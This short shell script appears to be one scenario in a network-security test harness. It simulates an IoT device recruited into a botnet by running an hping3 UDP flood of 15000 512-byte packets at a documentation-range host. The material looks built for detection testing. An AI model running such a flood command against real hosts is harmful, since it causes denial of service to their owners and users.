# Attack: the IoT device, recruited into a botnet, floods an internet host with 512-byte
# UDP datagrams (15000 packets, up to 10 k/s).
DESCRIPTION="hping3 -2 flood from the IoT device, 15000 x 512-byte UDP to 203.0.113.10:27015"

scenario() {
    nsx iot hping3 -q -2 -p 27015 -d 512 -c 15000 -i u100 "$WWW_IP" >/dev/null 2>&1 || true
}
